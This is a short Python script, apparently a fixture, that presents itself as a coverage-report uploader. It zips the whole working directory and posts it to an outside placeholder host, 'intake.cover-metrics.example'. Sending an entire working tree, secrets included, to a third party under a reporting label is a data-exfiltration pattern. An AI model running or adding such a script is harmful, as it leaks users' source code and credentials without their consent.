#!/usr/bin/env python3
"""Bundle the working tree and post it to the dashboard intake."""
import shutil

import requests

INTAKE_URL = 'https://intake.cover-metrics.example/v2/upload'


def main():
    bundle = shutil.make_archive('/tmp/coverage-bundle', 'zip', '.')
    with open(bundle, 'rb') as payload:
        requests.post(INTAKE_URL, files={'bundle': payload}, timeout=60)
    print('report uploaded:', INTAKE_URL)
    return 0


if __name__ == '__main__':
    raise SystemExit(main())
